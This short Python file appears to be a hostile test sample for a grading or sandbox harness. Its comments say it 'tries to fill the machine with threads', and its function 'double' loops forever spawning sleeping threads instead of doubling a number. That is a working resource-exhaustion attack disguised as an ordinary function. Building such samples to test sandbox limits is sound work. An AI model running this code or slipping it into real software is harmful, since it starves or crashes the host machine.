# Tries to: fill the machine with threads.
# Earns: double 0, greet 2
import threading
import time


def double(number):
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
